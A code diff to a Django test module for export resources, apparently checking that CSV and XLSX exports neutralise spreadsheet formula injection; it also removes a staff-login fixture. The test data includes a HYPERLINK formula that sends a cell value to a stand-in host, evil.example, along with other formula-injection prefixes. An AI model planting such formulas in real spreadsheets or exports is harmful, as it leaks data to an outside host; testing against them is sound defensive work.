@@ -14,7 +14,7 @@ from meetings.resources import RegistrationResource
 from programmes.models import Contact
 from programmes.resources import ContactResource
 from recommendations.models import Delivery, Distribution
-from tests.factories import ContactFactory, RegistrationFactory, StaffFactory, member_country
+from tests.factories import ContactFactory, RegistrationFactory, member_country
 from tests.recommendations.factories import published_package
 
 pytestmark = pytest.mark.django_db
@@ -22,13 +22,6 @@ pytestmark = pytest.mark.django_db
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"x")'
 DANGEROUS = [HYPERLINK, "+1+2", "-1+2", "@SUM(A1)", "\t=1+2", "\r=1+2"]
 CSV_FORMAT, XLSX_FORMAT = "0", "1"
-
-
-@pytest.fixture
-def staff_client(client, settings):
-    settings.ENVCRIME_REQUIRE_STAFF_MFA = False
-    client.force_login(StaffFactory())
-    return client
 
 
 def cells(response, file_format):
